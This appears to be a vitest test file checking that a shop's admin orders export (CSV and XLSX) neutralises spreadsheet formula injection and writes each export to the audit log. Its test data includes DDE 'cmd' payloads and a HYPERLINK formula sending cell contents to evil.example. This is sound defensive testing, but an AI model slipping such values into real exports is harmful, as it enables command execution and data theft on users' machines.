import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testDatabases } from "../support/databases";
import { type HostileShop, adminLogin, startShop } from "../support/hostile";
import { calcCells, openCsvInCalc } from "../support/libreoffice";
import { makeOrder } from "../support/orders";
import { unzip } from "../support/zip";

/** What a buyer (or a broken panel answer) can leave in the text an export writes out. */
const HOSTILE = [
  "=1+2",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "-1+cmd|' /C calc'!A0",
  '+1+HYPERLINK("http://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "\t=1+2",
  "\r=1+2",
  "  =1+2",
  "priya;=1+2",
  "priya,=1+2",
  "priya|=1+2",
  "priya\t=1+2",
  "priya; -1+1",
  "x\r\n=2+2",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
] as const;

const USER_AGENT = "ExportAuditTest/1.0 (operator's laptop)";

/**
 * The orders export through the real server, opened the way the operator
 * opens it: the CSV in LibreOffice Calc, splitting on every separator Calc
 * offers by default (comma, semicolon, tab, pipe); the .xlsx read as XML.
 * No cell may become a formula, and each export is in the audit log.
 */
describe.each(testDatabases())("orders export on $name", (kind) => {
  let shop: HostileShop;
  let cookie = "";
  let dir = "";

  const download = (query: string) =>
    fetch(`${shop.url}/api/admin/orders/export?${query}`, { headers: { cookie, "user-agent": USER_AGENT } });

  beforeAll(async () => {
    shop = await startShop(kind, { ADMIN_USERNAME: "owner", ADMIN_PASSWORD: "a-long-password" });
    cookie = await adminLogin(shop.url, "owner", "a-long-password");
    dir = mkdtempSync(join(tmpdir(), "shop-export-"));
    for (const [i, text] of HOSTILE.entries()) {
      await makeOrder(shop.db.db, {
        customer_name: text,
        customer_phone: i % 2 ? text : "+919812345678",
        target: text,
        status: "delivered",
        profit_paise: i % 3 ? -1250 : 1250,
        panel_order_id: text,
        panel_status: text,
        panel_charge: text,
        panel_currency: text,
      });
    }
  });
  afterAll(async () => {
    await shop?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it(
    "CSV: LibreOffice finds no formula and no cell starting like one, however it splits",
    { timeout: 180_000 },
    async () => {
      const res = await download("range=all&format=csv");
      expect(res.status).toBe(200);
      const csv = await res.text();
      expect(csv.match(/\r\n"?BK/g)).toHaveLength(HOSTILE.length);

      const exported = join(dir, "export.csv");
      writeFileSync(exported, csv);
      // The harness must see a formula where there is one: a line the export would never write.
      const control = join(dir, "control.csv");
      writeFileSync(control, 'a,b\r\n=1+2,"x;=3+4"\r\n');
      const sheets = openCsvInCalc([exported, control], dir, "44/59/9/124,34,76,1");

      const controlCells = calcCells(sheets.get(control)!).flat();
      expect(controlCells.filter((c) => c.formula).map((c) => c.formula)).toEqual(["of:=1+2"]);

      const formulas = calcCells(sheets.get(exported)!)
        .flat()
        .filter((c) => c.formula);
      expect(formulas).toEqual([]);
      expect(sheets.get(exported)).not.toContain("table:formula");

      const rows = calcCells(sheets.get(exported)!);
      expect(rows).toHaveLength(HOSTILE.length + 1);
      for (const cell of rows.flat()) {
        expect(cell.formula, JSON.stringify(cell)).toBeNull();
        if (cell.type === "string") expect(cell.text.trimStart(), JSON.stringify(cell)).not.toMatch(/^[=+\-@]/);
      }
      // The hostile text is all there, as text the operator can read.
      const texts = rows.flat().map((c) => c.text);
      expect(texts).toContain("'=1+2");
      expect(texts).toContain("'-1+cmd|' /C calc'!A0");
      expect(texts).toContain("priya;'=1+2");
      // Profits stay numbers, negative ones included.
      expect(rows.slice(1).map((r) => r.find((c) => c.text === "-12.5" || c.text === "12.5")?.type)).toEqual(
        HOSTILE.map(() => "float"),
      );
    },
  );

  it("XLSX: every cell is a value, no formula element", async () => {
    const res = await download("range=all&format=xlsx");
    expect(res.status).toBe(200);
    const files = unzip(Buffer.from(await res.arrayBuffer()));
    const sheets = [...files.keys()].filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toEqual(["xl/worksheets/sheet1.xml"]);
    for (const [name, data] of files) {
      if (name.endsWith(".xml")) expect(data.toString("utf8"), name).not.toMatch(/<f[\s>/]/);
    }
    const sheet = files.get("xl/worksheets/sheet1.xml")!.toString("utf8");
    expect(sheet.match(/<row\b/g)).toHaveLength(HOSTILE.length + 1);
    expect(sheet).toContain("<v>=1+2</v>");
    expect(sheet).toContain("<v>-1+cmd|&apos; /C calc&apos;!A0</v>");
  });

  it("records each export in the audit log with its format, filters, rows, address and browser", async () => {
    const exports = () =>
      shop.db.db.selectFrom("audit_log").selectAll().where("action", "=", "orders.export").orderBy("id").execute();
    const before = (await exports()).length;
    // A count and an export that matches nothing are not exports.
    expect((await download("range=all&count=1")).status).toBe(200);
    expect((await download("range=all&q=no-such-order")).status).toBe(404);
    expect(await exports()).toHaveLength(before);

    await (await download("range=all")).text();
    const xlsx = await download(
      "range=custom&startDate=2000-01-01&endDate=2999-12-31&status=success&q=priya&format=xlsx",
    );
    expect(xlsx.status).toBe(200);
    await xlsx.arrayBuffer();

    const rows = (await exports()).slice(before);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row).toMatchObject({
        actor: "owner",
        action: "orders.export",
        target_type: "orders",
        client_ip: "127.0.0.1",
        user_agent: USER_AGENT,
      });
    }
    expect(JSON.parse(rows[0]!.details!)).toEqual({
      format: "csv",
      rows: HOSTILE.length,
      filters: { range: "all", status: "all" },
    });
    expect(JSON.parse(rows[1]!.details!)).toEqual({
      format: "xlsx",
      rows: HOSTILE.filter((t) => t.includes("priya")).length,
      filters: { range: "custom", status: "delivered", q: "priya", startDate: "2000-01-01", endDate: "2999-12-31" },
    });
  });
});
